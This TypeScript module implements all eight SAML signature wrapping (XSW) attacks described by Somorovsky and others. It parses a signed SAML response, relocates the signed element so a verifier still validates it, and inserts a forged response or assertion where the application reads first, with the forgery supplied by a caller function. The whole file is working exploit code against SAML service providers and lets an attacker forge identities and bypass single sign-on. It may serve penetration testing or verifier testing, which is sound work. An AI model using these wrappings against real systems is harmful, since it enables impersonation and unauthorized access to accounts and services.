/**
 * Signature wrapping: eight ways to move signed parts of a response to where a verifier still finds them and to put forged
 * ones where a reader looks first. Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012).
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

export const WRAPPINGS = [
  'xsw1-forged-response-with-the-signed-one-in-its-signature',
  'xsw2-forged-response-with-the-signed-one-before-its-signature',
  'xsw3-forged-assertion-before-the-signed-one',
  'xsw4-forged-assertion-around-the-signed-one',
  'xsw5-forged-assertion-keeps-the-signature-and-the-original-follows',
  'xsw6-forged-assertion-with-the-original-in-its-signature',
  'xsw7-forged-assertion-in-extensions',
  'xsw8-forged-assertion-with-the-original-in-an-object-of-its-signature',
] as const;
export type Wrapping = (typeof WRAPPINGS)[number];

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

/**
 * Wraps a response. For xsw1 and xsw2 the response has to be signed, for the others its assertion.
 * @param forge turns a copy of the signed element into what the attacker wants to be read
 */
export function wrapSignature(xml: string, wrapping: Wrapping, forge: (copy: Element) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const wrap = WRAPS[wrapping];
  wrap(document, forge);
  return new XMLSerializer().serializeToString(document);
}

type Wrap = (document: Document, forge: (copy: Element) => void) => void;

const WRAPS: Readonly<Record<Wrapping, Wrap>> = {
  'xsw1-forged-response-with-the-signed-one-in-its-signature': (document, forge) => {
    const { original, forged, signature } = copyOf(document, rootOf(document), forge);
    document.replaceChild(forged, original);
    signatureOf(forged).appendChild(original);
    original.removeChild(signature);
  },
  'xsw2-forged-response-with-the-signed-one-before-its-signature': (document, forge) => {
    const { original, forged, signature } = copyOf(document, rootOf(document), forge);
    document.replaceChild(forged, original);
    original.removeChild(signature);
    forged.insertBefore(original, signatureOf(forged));
  },
  'xsw3-forged-assertion-before-the-signed-one': (document, forge) => {
    const { original, forged } = copyOf(document, assertionOf(document), forge);
    forged.removeChild(signatureOf(forged));
    rootOf(document).insertBefore(forged, original);
  },
  'xsw4-forged-assertion-around-the-signed-one': (document, forge) => {
    const { original, forged } = copyOf(document, assertionOf(document), forge);
    forged.removeChild(signatureOf(forged));
    rootOf(document).replaceChild(forged, original);
    forged.appendChild(original);
  },
  'xsw5-forged-assertion-keeps-the-signature-and-the-original-follows': (document, forge) => {
    const { original, forged, signature } = copyOf(document, assertionOf(document), forge);
    rootOf(document).replaceChild(forged, original);
    original.removeChild(signature);
    rootOf(document).appendChild(original);
  },
  'xsw6-forged-assertion-with-the-original-in-its-signature': (document, forge) => {
    const { original, forged, signature } = copyOf(document, assertionOf(document), forge);
    rootOf(document).replaceChild(forged, original);
    original.removeChild(signature);
    signatureOf(forged).appendChild(original);
  },
  'xsw7-forged-assertion-in-extensions': (document, forge) => {
    const { forged } = copyOf(document, assertionOf(document), forge);
    forged.removeChild(signatureOf(forged));
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(forged);
    rootOf(document).insertBefore(extensions, assertionOf(document));
  },
  'xsw8-forged-assertion-with-the-original-in-an-object-of-its-signature': (document, forge) => {
    const { original, forged, signature } = copyOf(document, assertionOf(document), forge);
    rootOf(document).replaceChild(forged, original);
    original.removeChild(signature);
    const object = document.createElementNS(SIGNATURE, 'ds:Object');
    object.appendChild(original);
    signatureOf(forged).appendChild(object);
  },
};

interface Copy {
  readonly original: Element;
  readonly forged: Element;
  /** Of the original. */
  readonly signature: Element;
}

function copyOf(_document: Document, original: Element, forge: (copy: Element) => void): Copy {
  const signature = signatureOf(original);
  const forged = original.cloneNode(true) as Element;
  forge(forged);
  return { original, forged, signature };
}

const rootOf = (document: Document): Element => document.documentElement;

function assertionOf(document: Document): Element {
  const found = [...childElements(rootOf(document))].find(({ localName }) => localName === 'Assertion');
  if (!found) throw new Error('no assertion to wrap');
  return found;
}

function signatureOf(element: Element): Element {
  const found = [...childElements(element)].find(({ localName }) => localName === 'Signature');
  if (!found) throw new Error('not signed');
  return found;
}

function* childElements(element: Element): Generator<Element> {
  for (let child = element.firstChild; child !== null; child = child.nextSibling)
    if (child.nodeType === child.ELEMENT_NODE) yield child as Element;
}
